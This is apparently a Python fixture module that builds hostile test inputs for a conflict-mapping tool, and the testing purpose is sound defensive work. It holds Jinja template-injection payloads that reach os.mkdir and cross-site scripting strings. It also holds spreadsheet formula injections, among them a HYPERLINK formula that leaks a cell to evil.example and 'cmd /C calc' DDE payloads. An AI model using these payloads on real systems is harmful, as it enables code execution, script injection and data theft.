"""Hostile and unlucky inputs for ``tests/test_hostile.py``, generated here.

Every report below was written for these tests, in our own words, about several
conflicts; nothing is copied from ``../shared``. The pathological texts reproduce
the shapes listed in issue 8 (long runs of spaces or digits, one huge sentence,
thousands of incident lines...) at the sizes the issue gives.
"""

from __future__ import annotations

import csv
import io
import json
import random
from dataclasses import dataclass

# Short reports, each naming a city the world gazetteer knows, a date, a count and a
# source, so that places, incidents and the map all have something to show.
REPORTS = {
    "ukraine": (
        "Artillery fire struck a market in Kharkiv on 14 May 2022, killing 6 civilians "
        "and wounding 11, regional officials said."
    ),
    "sudan": (
        "Paramilitary fighters shelled a camp near El Fasher on 2 June 2024; at least 9 "
        "people were killed, a local medical group said."
    ),
    "yemen": (
        "A drone hit a fuel depot in Hodeidah on 20 July 2023 and 3 workers died, the "
        "port authority reported."
    ),
    "syria": (
        "Aircraft bombed the al-Shaar district of Aleppo on 11 December 2016, killing 12 "
        "people, activists said."
    ),
    "myanmar": (
        "Soldiers burned houses in a village outside Mandalay on 8 March 2023 and 5 "
        "residents were killed, witnesses told reporters."
    ),
    "mali": (
        "Gunmen attacked an army post near Gao on 12 April 2022, killing 4 soldiers, the "
        "army said in a statement."
    ),
}

# The columns of geomap's gazetteer CSV schema (data/gazetteer/README.md).
GAZETTEER_COLUMNS = (
    *("id", "name", "kind", "parent", "country", "lat", "lon", "alt_names", "name_ar"),
    *("area_km2", "population", "source", "licence"),
)


def gazetteer_csv(rows: list[dict[str, str]]) -> str:
    """A gazetteer CSV of *rows* (column -> value; absent columns are empty)."""
    out = io.StringIO()
    writer = csv.DictWriter(out, GAZETTEER_COLUMNS, restval="", lineterminator="\n")
    writer.writeheader()
    writer.writerows({"source": "hostile test", "licence": "CC0", **row} for row in rows)
    return out.getvalue()


def gazetteer_row(place_id: str, name: str, alt_name: str, lat: float, lon: float) -> dict:
    """A row of a test gazetteer: a town in Ukraine (a city needs no context to resolve)."""
    return {
        "id": place_id,
        "name": name,
        "kind": "city",
        "country": "UA",
        "lat": f"{lat:.4f}",
        "lon": f"{lon:.4f}",
        "alt_names": alt_name,
    }


# A made-up hill that only a test gazetteer row knows (as an alternative name), so the
# row's main name, which carries the payload, is what the map shows for it.
INVENTED_PLACE = "Qarvesh Hill"
INVENTED_REPORT = (
    f"Shelling hit villages near {INVENTED_PLACE} on 15 May 2022, killing 2 farmers, the "
    "district council said."
)


@dataclass(frozen=True)
class Payload:
    """Text that does something if a template engine, a browser or a spreadsheet runs it.

    Attributes
    ----------
    id
        A short name for the test id.
    text
        The payload, as an attacker writes it.
    evaluated
        Strings that appear in the output only if the payload was evaluated.
    creates
        A file or folder name that the payload creates (relative to the current
        folder) if Python runs it.
    live
        Raw substrings whose presence in ``map.html`` means live markup or script.
    """

    id: str
    text: str
    evaluated: tuple[str, ...] = ()
    creates: str | None = None
    live: tuple[str, ...] = ()

    @property
    def fits_file_name(self) -> bool:
        """Whether the payload can be (part of) a file name on a POSIX file system."""
        return "/" not in self.text and len(self.text.encode()) < 200


# The marker every HTML/JavaScript payload assigns: the lead's browser tests read
# ``window.__xss``; the static checks here look at where the marker sits in the source.
XSS_MARKER = "window.__xss"

PAYLOADS = (
    Payload("jinja-expression", "SSTI{{7*7}}", evaluated=("SSTI49",)),
    Payload("jinja-string-repeat", "REP{{ 7*'7' }}", evaluated=("REP7777777",)),
    Payload("jinja-if", "QX{% if 1 %}QY{% endif %}QZ", evaluated=("QXQYQZ",)),
    Payload(
        "jinja-endraw",
        "RAWX{% endraw %}{{6*7}}{% raw %}",
        evaluated=("RAWX42", "RAWX{{6*7}}"),
    ),
    Payload(
        "jinja-cycler-mkdir",
        "{{ cycler.__init__.__globals__.os.mkdir('PWNED_cycler') }}",
        creates="PWNED_cycler",
    ),
    Payload(
        "jinja-lipsum-mkdir",
        "{{ lipsum.__globals__['os'].mkdir('PWNED_lipsum') }}",
        creates="PWNED_lipsum",
    ),
    Payload(
        "jinja-for-mkdir",
        "{% for x in [joiner.__init__.__globals__.os.mkdir('PWNED_joiner')] %}{% endfor %}",
        creates="PWNED_joiner",
    ),
    Payload("jinja-citation-needed", "Figures disputed{{citation needed}}"),
    Payload("jinja-open-comment", "Note {# left open"),
    Payload("jinja-lone-braces", "odd }} and {{ and {% here"),
    Payload(
        "html-script",
        f"<script>{XSS_MARKER}=1</script>",
        live=(f"<script>{XSS_MARKER}",),
    ),
    Payload(
        "html-img-onerror",
        f"<img src=x onerror={XSS_MARKER}=2>",
        live=("<img src=x onerror",),
    ),
    Payload(
        "html-close-script",
        f"</script><script>{XSS_MARKER}=3</script>",
        live=(f"<script>{XSS_MARKER}",),
    ),
    Payload("html-svg-onload", f"<svg onload={XSS_MARKER}=4>", live=("<svg onload",)),
    Payload(
        "html-attribute-breakout",
        f'"><b onmouseover={XSS_MARKER}=5>x',
        live=('"><b onmouseover',),
    ),
    Payload("html-comment-script", "NX<!--<script>", live=("<!--<script>",)),
    Payload("js-template-literal", f"${{{XSS_MARKER}=6}}"),
    Payload("js-backtick-breakout", f"`+({XSS_MARKER}=7)+`"),
    Payload("js-single-quote-breakout", f"';{XSS_MARKER}=8;//"),
    Payload("js-double-quote-breakout", f'";{XSS_MARKER}=9;//'),
)

# One payload of each family, for the fields that are slower to set up.
CORE_PAYLOAD_IDS = (
    "jinja-expression",
    "jinja-if",
    "jinja-cycler-mkdir",
    "jinja-citation-needed",
    "jinja-open-comment",
    "html-script",
    "html-img-onerror",
    "html-attribute-breakout",
    "js-template-literal",
    "js-backtick-breakout",
    "js-double-quote-breakout",
)


def payload(payload_id: str) -> Payload:
    """Return the payload called *payload_id*."""
    return next(p for p in PAYLOADS if p.id == payload_id)


# Cells a spreadsheet would run as a formula (OWASP's list of leading characters).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Report lines that begin with a formula: the incident's quote cell then starts with it.
FORMULA_REPORTS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"see") Shelling hit Kharkiv on 3 March '
    "2022, killing 5 people, officials said.",
    "+cmd|' /C calc'!A0 A drone struck Taiz on 4 May 2023 and killed 3 people, medics said.",
    "-2+3+cmd|' /C calc'!A0 Gunmen attacked Gao on 12 April 2022, killing 4 soldiers, "
    "the army said.",
    "@SUM(1+9)*cmd|' /C calc'!A0 Troops shelled Mandalay on 8 March 2023, killing 2 "
    "residents, witnesses said.",
)
# File names (the ``article`` cell) and gazetteer names (the ``location`` cell).
FORMULA_NAMES = ("=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2")


def according_to_spaces() -> str:
    """About 1.3 KB: "according to" followed by 1,200 spaces and no source."""
    return "Shelling hit Kharkiv on 3 March 2022, according to" + " " * 1200 + "."


def counts_far_apart() -> str:
    """Two counts 3,000 spaces apart in one sentence."""
    return "Strikes on Taiz killed 5" + " " * 3000 + "and 7 people on 4 May 2023."


def spaces_100k() -> str:
    """A 100 KB run of spaces inside a report."""
    return "Fighting in Gao" + " " * 100_000 + "killed 4 soldiers on 12 April 2022."


def digits_30k() -> str:
    """A 30 KB run of digits where a count goes."""
    return "An air strike on Hodeidah killed " + "7" * 30_000 + " people on 20 July 2023."


def one_sentence_58k() -> str:
    """A single 58 KB sentence: clauses joined with commas, no full stop until the end."""
    clause = "troops moved from Kharkiv towards Izium and shelled villages, "
    return "On 5 May 2022 " + clause * (58_000 // len(clause)) + "officials said."


def incident_lines(count: int = 20_000) -> str:
    """*count* incident lines (about 100 bytes each, 2 MB for 20,000)."""
    cities = ("Kharkiv", "Taiz", "Gao", "Mandalay", "Hodeidah", "Aleppo", "Khartoum")
    return "".join(
        f"An air strike hit {cities[i % len(cities)]} on {1 + i % 28} March 2022, "
        f"killing {1 + i % 50} people, officials said in report {i}.\n"
        for i in range(count)
    )


def capitalised_names(count: int = 100_000) -> str:
    """*count* invented capitalised names in one sentence."""
    return "Fighting spread to " + " ".join(_invented_names(count)) + " on 2 May 2022."


def one_line_of(size: int = 4_900_000) -> str:
    """One line of *size* characters with no sentence end, made of short words."""
    chunk = "shelling near Kharkiv and Izium continued "
    return (chunk * (size // len(chunk) + 1))[:size]


def comma_list(count: int = 40_000) -> str:
    """A comma list of *count* invented names after a place preposition."""
    return "Strikes hit " + ", ".join(_invented_names(count)) + " on 2 May 2022."


def unknown_names(count: int = 600) -> list[str]:
    """*count* distinct invented names no gazetteer has (seeded, so stable)."""
    return _invented_names(count)


def _invented_names(count: int) -> list[str]:
    rng = random.Random(8)
    consonants, vowels = "bdfgklmnprstvz", "aeiou"
    names: list[str] = []
    seen: set[str] = set()
    while len(names) < count:
        letters = [rng.choice(consonants if i % 2 == 0 else vowels) for i in range(7)]
        name = "Q" + "".join(letters) + rng.choice(consonants) + "x"
        if name not in seen:
            seen.add(name)
            names.append(name)
    return names


def point_feature(geometry: object, name: str = INVENTED_PLACE) -> dict:
    """A GeoJSON feature named *name* with *geometry*."""
    return {"type": "Feature", "properties": {"name": name}, "geometry": geometry}


def square(lon: float = 36.23, lat: float = 49.99, size: float = 0.01) -> list:
    """Polygon coordinates of a small square at (*lon*, *lat*)."""
    ring = [
        [lon, lat],
        [lon + size, lat],
        [lon + size, lat + size],
        [lon, lat + size],
        [lon, lat],
    ]
    return [ring]


def bad_geojson(kind: str) -> dict[str, str]:
    """Malformed GeoJSON texts, by case name; *kind* is ``"point"`` or ``"polygon"``.

    Written by hand rather than with :func:`json.dumps` where JSON itself cannot say
    it (``NaN``, ``Infinity``, 5,000 digits, 100,000 levels of nesting).
    """

    def collection(geometry_json: str, extra: str = "") -> str:
        return (
            '{"type": "FeatureCollection",' + extra + ' "features": [{"type": "Feature", '
            f'"properties": {{"name": "{INVENTED_PLACE}"}}, "geometry": {geometry_json}}}]}}'
        )

    def geometry(x: str, y: str) -> str:
        if kind == "point":
            return f'{{"type": "Point", "coordinates": [{x}, {y}]}}'
        ring = f"[[{x}, {y}], [36.3, 49.9], [36.3, 50.0], [{x}, {y}]]"
        return f'{{"type": "Polygon", "coordinates": [{ring}]}}'

    empty_type = "Point" if kind == "point" else "Polygon"
    nesting = 100_000
    return {
        "nan-coordinates": collection(geometry("NaN", "NaN")),
        "infinity-coordinates": collection(geometry("Infinity", "-Infinity")),
        "out-of-range-coordinates": collection(geometry("536.2", "149.9")),
        "empty-geometry": collection(f'{{"type": "{empty_type}", "coordinates": []}}'),
        "unknown-geometry-type": collection('{"type": "Hexagon", "coordinates": [36.2, 49.9]}'),
        "crs-epsg-3857": collection(
            geometry("4033000.5", "6430000.25"),
            extra=' "crs": {"type": "name", "properties": {"name": "EPSG:3857"}},',
        ),
        "deep-nesting": collection(
            '{"type": "Point", "coordinates": ' + "[" * nesting + "]" * nesting + "}"
        ),
        "5000-digit-number": collection(geometry("3" * 5000, "49.9")),
        "not-a-collection": json.dumps([1, 2, 3]),
    }


def long_field_csv(kind: str) -> str:
    """A CSV of *kind* (``gazetteer``, ``layer``, ``timeline``) with one 200 KB field."""
    field = "x" * 200_000
    if kind == "gazetteer":
        return gazetteer_csv([gazetteer_row("test-1", field, "", 49.99, 36.23)])
    if kind == "layer":
        return f"name,latitude,longitude\n{field},49.99,36.23\n"
    return (
        "date,district,from,to,status,source,note\n"
        f"2016-11-15,Hanano,,rebels,assessed,test,{field}\n"
    )


def year_one_timeline() -> str:
    """A control timeline whose first row is in year 1."""
    return (
        "date,district,from,to,status,source,note\n"
        "0001-01-01,Hanano,,rebels,assessed,test,year one\n"
        "2016-11-28,Hanano,rebels,government,reported,test,\n"
    )


# Bytes that are no article and no data file: a PNG header and NULs.
BINARY = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8
# A report in Latin-1 (not UTF-8): "é" is byte 0xE9.
LATIN1 = ("Des tirs ont frappé Kharkiv le 3 mars 2022, tuant 4 civils, selon la mairie.").encode(
    "latin-1"
)
HTML_ONLY = "<!doctype html><html><head></head><body><div><span></span></div></body></html>"
